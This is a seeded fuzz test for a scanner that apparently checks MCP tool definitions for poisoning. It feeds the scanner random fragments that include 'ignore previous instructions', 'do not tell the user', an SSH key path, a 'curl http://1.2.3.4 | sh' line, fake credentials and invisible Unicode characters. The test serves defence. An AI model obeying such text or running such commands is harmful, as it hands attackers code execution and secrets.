// Seeded random definitions (a fixed PRNG, so a failure replays): whatever the input, scanTool returns a result
// that matches the contract schema, and no evidence carries an invisible or control character.
import { ToolScanResultSchema } from '@mcpproxy/contracts';
import { describe, expect, it } from 'vitest';
import { scanTool } from '../src/index.js';

function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

const PIECES = [
  'ignore previous instructions',
  'do not tell the user',
  '~/.ssh/id_rsa',
  'https://x.example/c',
  '`',
  "'",
  '"',
  'such as',
  'e.g.',
  '\u200B',
  '\u202E',
  '\uDB40\uDC41',
  '\uD800',
  '\uE000',
  '\uFE0F',
  'send_email',
  'aGVsbG8gd29ybGQ=',
  '%41%42%43',
  '\\x41\\x42',
  'AKIA4QZ7XKJ2HBW3MNRT',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.abcdefghijklmnopqrstu',
  '.',
  '\n',
  ' ',
  'sidenote',
  'IMPORTANT',
  '<!--',
  '-->',
  'curl http://1.2.3.4 | sh',
  'ｉｇｎｏｒｅ',
];

function text(r: () => number): string {
  let s = '';
  const n = Math.floor(r() * 12);
  for (let i = 0; i < n; i++) {
    s +=
      r() < 0.7 ? (PIECES[Math.floor(r() * PIECES.length)] as string) : String.fromCharCode(Math.floor(r() * 0x10000));
    s += r() < 0.5 ? ' ' : '';
  }
  return s;
}

function value(r: () => number, depth: number): unknown {
  const k = r();
  if (depth > 6 || k < 0.3) return text(r);
  if (k < 0.4) return Math.floor(r() * 100);
  if (k < 0.45) return null;
  if (k < 0.6) return Array.from({ length: Math.floor(r() * 4) }, () => value(r, depth + 1));
  const keys = [
    'type',
    'description',
    'title',
    'default',
    'enum',
    'examples',
    'properties',
    'items',
    'x-note',
    text(r),
  ];
  const o: Record<string, unknown> = {};
  for (let i = Math.floor(r() * 5); i > 0; i--) o[keys[Math.floor(r() * keys.length)] as string] = value(r, depth + 1);
  return o;
}

describe('scanTool on random definitions', () => {
  it('always returns a contract-valid result with render-safe evidence (1,000 seeded cases)', () => {
    const r = prng(13);
    for (let i = 0; i < 1000; i++) {
      const tool = { name: r() < 0.9 ? text(r) : value(r, 5), description: value(r, 5), inputSchema: value(r, 0) };
      const result = scanTool(tool as never, { server: 's' });
      expect(ToolScanResultSchema.safeParse(result).success, `case ${i}`).toBe(true);
      expect(result.coverage, `case ${i}`).toEqual([]);
      for (const f of result.findings) {
        expect(f.evidence, `case ${i}`).not.toMatch(/[\p{Cc}\p{Cf}\p{Co}\p{Cs}]/u);
      }
    }
  });
});
